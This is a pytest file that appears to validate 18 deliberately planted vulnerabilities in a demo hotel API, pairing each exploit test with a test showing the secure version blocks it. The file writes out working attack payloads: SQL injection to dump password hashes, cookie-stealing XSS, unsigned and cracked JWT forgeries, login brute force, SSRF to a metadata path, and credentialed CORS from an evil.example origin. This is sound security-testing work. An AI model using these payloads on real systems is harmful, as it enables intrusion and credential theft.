"""Ground truth for the 18 planted vulnerabilities (issue 3, docs/demo.md).

For each: one test exploits it on the insecure demo and shows the effect, one test makes the same
attempt on the secure demo and shows it fails. Plain httpx and PyJWT only, no battletest scanner.
"""

from __future__ import annotations

import base64
import json
import secrets
import time
import warnings
from collections.abc import Iterator
from typing import Any

import httpx
import jwt
import pytest
from jwt.warnings import InsecureKeyLengthWarning

from battletest.demo import DemoHandle
from battletest.netutil import serve_app

from .conftest import headers, login

pytestmark = [pytest.mark.network, pytest.mark.security]
WORDLIST = [
    "password",
    "123456",
    "secret",
    "changeme",
    "letmein",
    "admin",
    "qwerty",
    "sunshine",
    "dragon",
    "monkey",
]
EVIL = "https://evil.example"
XSS = "<script>alert(document.cookie)</script>"


def get(d: DemoHandle, path: str, who: str | None = None, **kw: Any) -> httpx.Response:
    hdrs = {**(headers(d, who) if who else {}), **kw.pop("headers", {})}
    return httpx.get(d.base_url + path, headers=hdrs, timeout=15, **kw)


def post(d: DemoHandle, path: str, who: str | None = None, **kw: Any) -> httpx.Response:
    hdrs = {**(headers(d, who) if who else {}), **kw.pop("headers", {})}
    return httpx.post(d.base_url + path, headers=hdrs, timeout=15, **kw)


def new_user(d: DemoHandle, role: str = "guest") -> tuple[str, str, str]:
    """A fresh user (so lockouts and role changes never touch the shared identities)."""
    email, password = f"v-{secrets.token_hex(5)}@demo.test", "victim-pass-123"
    r = post(
        d,
        "/v1/users",
        "admin",
        json={"email": email, "password": password, "role": role, "hotel_id": "h1"},
    )
    assert r.status_code == 201, r.text
    return str(r.json()["id"]), email, password


def token_for(d: DemoHandle, email: str, password: str) -> str:
    r = post(d, "/v1/auth/login", json={"username": email, "password": password})
    assert r.status_code == 200, r.text
    return str(r.json()["access_token"])


def b64(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def admin_claims() -> dict[str, Any]:
    return {
        "iss": "battletest-demo",
        "sub": "u_admin",
        "role": "admin",
        "typ": "access",
        "jti": secrets.token_hex(8),
        "iat": int(time.time()),
        "exp": time.time() + 600,
    }


# 1. SQL injection in the guest search ---------------------------------------------------------
SQLI = "zz' UNION SELECT id, role, email, password_hash, display_name FROM users --"


def test_01_sqli_exploit(insecure_demo: DemoHandle) -> None:
    rows = get(insecure_demo, "/v1/guests", "staff_h1", params={"name": SQLI}).json()
    by_email = {r["name"]: r["phone"] for r in rows}  # columns line up: email→name, hash→phone
    assert by_email["admin@demo.test"].startswith("$argon2id$")


def test_01_sqli_closed(demo: DemoHandle) -> None:
    r = get(demo, "/v1/guests", "staff_h1", params={"name": SQLI})
    assert r.status_code == 200 and r.json() == []


# 2. Reflected XSS in the transcript view ----------------------------------------------------
def _transcript(d: DemoHandle) -> httpx.Response:
    call = post(d, "/v1/calls", "staff_h1", json={"caller": "+15550100001", "hotel_id": "h1"})
    return get(
        d, f"/v1/calls/{call.json()['id']}/transcript", "staff_h1", params={"highlight": XSS}
    )


def test_02_xss_exploit(insecure_demo: DemoHandle) -> None:
    r = _transcript(insecure_demo)
    assert r.headers["content-type"].startswith("text/html")
    assert XSS in r.text and "content-security-policy" not in r.headers


def test_02_xss_closed(demo: DemoHandle) -> None:
    r = _transcript(demo)
    assert XSS not in r.text and "&lt;script&gt;" in r.text
    assert "default-src 'none'" in r.headers["content-security-policy"]


# 3. BOLA: a guest reads another guest's reservation ----------------------------------------
def test_03_bola_exploit(insecure_demo: DemoHandle) -> None:
    r = get(insecure_demo, "/v1/reservations/r-1001", "guest2")  # r-1001 belongs to guest1
    assert r.status_code == 200 and r.json()["guest_email"] == "guest1@demo.test"


def test_03_bola_closed(demo: DemoHandle) -> None:
    r = get(demo, "/v1/reservations/r-1001", "guest2")
    assert r.status_code == 404 and "guest1" not in r.text


# 4. BFLA: a guest deletes a user ------------------------------------------------------------
def test_04_bfla_exploit(insecure_demo: DemoHandle) -> None:
    victim, _, _ = new_user(insecure_demo)
    r = httpx.delete(
        f"{insecure_demo.base_url}/v1/users/{victim}", headers=headers(insecure_demo, "guest1")
    )
    assert r.status_code == 204
    assert victim not in {u["id"] for u in get(insecure_demo, "/v1/users", "admin").json()}


def test_04_bfla_closed(demo: DemoHandle) -> None:
    victim, _, _ = new_user(demo)
    r = httpx.delete(f"{demo.base_url}/v1/users/{victim}", headers=headers(demo, "guest1"))
    assert r.status_code == 403
    assert victim in {u["id"] for u in get(demo, "/v1/users", "admin").json()}


# 5. Mass assignment: PATCH /v1/me accepts role ------------------------------------------------
def _promote_self(d: DemoHandle) -> tuple[httpx.Response, httpx.Response]:
    _, email, password = new_user(d)
    auth = {"Authorization": f"Bearer {token_for(d, email, password)}"}
    patched = httpx.patch(d.base_url + "/v1/me", headers=auth, json={"role": "admin"})
    return patched, httpx.get(d.base_url + "/v1/users", headers=auth)


def test_05_mass_assignment_exploit(insecure_demo: DemoHandle) -> None:
    patched, admin_only = _promote_self(insecure_demo)
    assert patched.status_code == 200 and patched.json()["role"] == "admin"
    assert admin_only.status_code == 200  # the guest now holds the admin role


def test_05_mass_assignment_closed(demo: DemoHandle) -> None:
    patched, admin_only = _promote_self(demo)
    assert patched.status_code == 422
    assert admin_only.status_code == 403


# 6. JWT alg "none" accepted -------------------------------------------------------------------
def _unsigned_admin(d: DemoHandle) -> httpx.Response:
    token = b64({"alg": "none", "typ": "JWT"}) + "." + b64(admin_claims()) + "."
    return get(d, "/v1/users", headers={"Authorization": f"Bearer {token}"})


def test_06_jwt_alg_none_exploit(insecure_demo: DemoHandle) -> None:
    r = _unsigned_admin(insecure_demo)
    assert r.status_code == 200 and "admin@demo.test" in r.text


def test_06_jwt_alg_none_closed(demo: DemoHandle) -> None:
    assert _unsigned_admin(demo).status_code == 401


# 7. Weak, dictionary-word HS256 secret -----------------------------------------------------
def _crack(d: DemoHandle) -> str | None:
    token = login(d, "guest1")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InsecureKeyLengthWarning)  # short keys are the point
        for word in WORDLIST:
            try:
                jwt.decode(token, word, algorithms=["HS256"], options={"verify_aud": False})
            except jwt.InvalidSignatureError:
                continue
            return word
    return None


def _forged_with(d: DemoHandle, secret: str) -> httpx.Response:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InsecureKeyLengthWarning)
        forged = jwt.encode(admin_claims(), secret, algorithm="HS256")
    return get(d, "/v1/users", headers={"Authorization": f"Bearer {forged}"})


def test_07_weak_jwt_secret_exploit(insecure_demo: DemoHandle) -> None:
    secret = _crack(insecure_demo)
    assert secret == "sunshine"
    assert _forged_with(insecure_demo, secret).status_code == 200


def test_07_weak_jwt_secret_closed(demo: DemoHandle) -> None:
    assert _crack(demo) is None
    assert _forged_with(demo, "sunshine").status_code == 401


# 8. Token expiry not enforced -----------------------------------------------------------------
def _use_after_expiry(d: DemoHandle) -> httpx.Response:
    token = login(d, "guest1")
    time.sleep(2.2)
    return get(d, "/v1/me", headers={"Authorization": f"Bearer {token}"})


@pytest.mark.slow
def test_08_no_token_expiry_exploit(short_ttl_insecure_demo: DemoHandle) -> None:
    r = _use_after_expiry(short_ttl_insecure_demo)
    assert r.status_code == 200 and r.json()["email"] == "guest1@demo.test"


@pytest.mark.slow
def test_08_no_token_expiry_closed(short_ttl_demo: DemoHandle) -> None:
    assert _use_after_expiry(short_ttl_demo).status_code == 401


# 9. No login rate limit or lockout --------------------------------------------------------
def _brute_force(d: DemoHandle) -> list[int]:
    _, email, password = new_user(d)
    guesses = [f"guess-{i}" for i in range(8)] + [password]
    return [
        post(d, "/v1/auth/login", json={"username": email, "password": g}).status_code
        for g in guesses
    ]


def test_09_no_login_limit_exploit(insecure_demo: DemoHandle) -> None:
    codes = _brute_force(insecure_demo)
    assert codes == [401] * 8 + [200]  # the ninth guess gets in


def test_09_no_login_limit_closed(demo: DemoHandle) -> None:
    codes = _brute_force(demo)
    assert codes[:5] == [401] * 5 and set(codes[5:]) == {429}  # locked, even the right one


# 10. User enumeration through login errors ------------------------------------------------
def _login_errors(d: DemoHandle) -> tuple[httpx.Response, httpx.Response]:
    unknown = post(d, "/v1/auth/login", json={"username": "ghost@demo.test", "password": "x"})
    wrong = post(d, "/v1/auth/login", json={"username": "staff.h1@demo.test", "password": "x"})
    return unknown, wrong


def test_10_user_enumeration_exploit(insecure_demo: DemoHandle) -> None:
    unknown, wrong = _login_errors(insecure_demo)
    assert (unknown.status_code, wrong.status_code) == (404, 401)
    assert unknown.json()["detail"] != wrong.json()["detail"]


def test_10_user_enumeration_closed(demo: DemoHandle) -> None:
    unknown, wrong = _login_errors(demo)
    assert unknown.status_code == wrong.status_code == 401
    assert unknown.json()["detail"] == wrong.json()["detail"]


# 11. Excessive data exposure: password hashes in the user list ----------------------------
def test_11_data_exposure_exploit(insecure_demo: DemoHandle) -> None:
    users = get(insecure_demo, "/v1/users", "admin").json()
    assert all(u["password_hash"].startswith("$argon2id$") for u in users)


def test_11_data_exposure_closed(demo: DemoHandle) -> None:
    r = get(demo, "/v1/users", "admin")
    assert r.status_code == 200 and "password_hash" not in r.text and "$argon2" not in r.text


# 12. Verbose errors: stack traces and framework versions in 500s ---------------------------
def test_12_verbose_errors_exploit(insecure_demo: DemoHandle) -> None:
    r = get(insecure_demo, "/v1/guests", "staff_h1", params={"name": "'"})
    assert r.status_code == 500
    body = r.json()
    assert "Traceback (most recent call last)" in body["traceback"]
    assert "sqlite3.OperationalError" in body["traceback"] and body["versions"]["fastapi"]


def test_12_verbose_errors_closed(demo: DemoHandle) -> None:
    r = get(demo, "/v1/guests", "staff_h1", params={"name": "'"})
    assert r.status_code == 200 and "Traceback" not in r.text


# 13. Missing security headers and version disclosure ------------------------------------
def test_13_missing_headers_exploit(insecure_demo: DemoHandle) -> None:
    h = get(insecure_demo, "/health").headers
    assert not {"strict-transport-security", "x-content-type-options", "x-frame-options"} & set(h)
    assert "uvicorn/" in h["server"] and "Python/" in h["server"]
    assert h["x-powered-by"].startswith("FastAPI/")


def test_13_missing_headers_closed(demo: DemoHandle) -> None:
    h = get(demo, "/health").headers
    assert {"strict-transport-security", "x-content-type-options", "x-frame-options"} <= set(h)
    assert "server" not in h and "x-powered-by" not in h


# 14. CORS reflecting any origin with credentials ----------------------------------------
def test_14_cors_any_origin_exploit(insecure_demo: DemoHandle) -> None:
    r = get(insecure_demo, "/v1/me", "guest1", headers={"Origin": EVIL})
    assert r.status_code == 200
    assert r.headers["access-control-allow-origin"] == EVIL
    assert r.headers["access-control-allow-credentials"] == "true"


def test_14_cors_any_origin_closed(demo: DemoHandle) -> None:
    r = get(demo, "/v1/me", "guest1", headers={"Origin": EVIL})
    assert "access-control-allow-origin" not in r.headers


# 15. SSRF through voice import (loopback listener only) ---------------------------------
@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            return
        seen.append(scope["path"])
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"text/plain")],
            }
        )
        await send({"type": "http.response.body", "body": b"internal-secret-42"})

    with serve_app(app) as url:
        yield url, seen


def test_15_ssrf_exploit(insecure_demo: DemoHandle, listener: tuple[str, list[str]]) -> None:
    url, seen = listener
    r = post(
        insecure_demo,
        "/v1/voices/import",
        "admin",
        json={"name": "x", "url": url + "/latest/meta-data"},
    )
    assert r.status_code == 201 and r.json()["preview"] == "internal-secret-42"
    assert seen == ["/latest/meta-data"]


def test_15_ssrf_closed(demo: DemoHandle, listener: tuple[str, list[str]]) -> None:
    url, seen = listener
    r = post(
        demo, "/v1/voices/import", "admin", json={"name": "x", "url": url + "/latest/meta-data"}
    )
    assert r.status_code == 422 and seen == []
    sneaky = post(
        demo,
        "/v1/voices/import",
        "admin",
        json={"name": "x", "url": demo.tts_url + "/voices/../_journal"},
    )
    assert sneaky.status_code == 422
    ok = post(
        demo,
        "/v1/voices/import",
        "admin",
        json={"name": "harbour", "url": demo.tts_url + "/voices/harbour.wav"},
    )
    assert ok.status_code == 201 and ok.json()["content_type"] == "audio/wav"


# 16. No request body size limit ---------------------------------------------------------
def _big_body(d: DemoHandle) -> httpx.Response:
    body = {"username": "x@demo.test", "password": "p", "padding": "A" * 2_000_000}
    return post(d, "/v1/auth/login", json=body)


def test_16_no_body_limit_exploit(insecure_demo: DemoHandle) -> None:
    r = _big_body(insecure_demo)  # 2 MB read and parsed: the schema check is what answers
    assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["body", "padding"]


def test_16_no_body_limit_closed(demo: DemoHandle) -> None:
    assert _big_body(demo).status_code == 413


# 17. Unauthenticated, undocumented debug endpoint leaking secrets ----------------------
def test_17_debug_endpoint_exploit(insecure_demo: DemoHandle) -> None:
    leaked = get(insecure_demo, "/debug/config").json()
    assert leaked["jwt_secret"] == "sunshine"
    assert leaked["service_api_key"] == insecure_demo.identity("service").api_key
    assert "/debug/config" not in get(insecure_demo, "/openapi.json").json()["paths"]


def test_17_debug_endpoint_closed(demo: DemoHandle) -> None:
    r = get(demo, "/debug/config")
    assert r.status_code == 404 and demo.identity("service").api_key not in r.text


# 18. Cross-tenant access: staff of h1 reads h2's calls ------------------------------------
def _foreign_call(d: DemoHandle) -> tuple[httpx.Response, httpx.Response]:
    call = post(d, "/v1/calls", "staff_h2", json={"caller": "+15550200005", "hotel_id": "h2"})
    one = get(d, f"/v1/calls/{call.json()['id']}", "staff_h1")
    listed = get(d, "/v1/calls", "staff_h1", params={"page_size": 100})
    return one, listed


def test_18_cross_tenant_exploit(insecure_demo: DemoHandle) -> None:
    one, listed = _foreign_call(insecure_demo)
    assert one.status_code == 200 and one.json()["caller"] == "+15550200005"
    assert "h2" in {c["hotel_id"] for c in listed.json()["items"]}


def test_18_cross_tenant_closed(demo: DemoHandle) -> None:
    one, listed = _foreign_call(demo)
    assert one.status_code == 404
    assert {c["hotel_id"] for c in listed.json()["items"]} <= {"h1"}
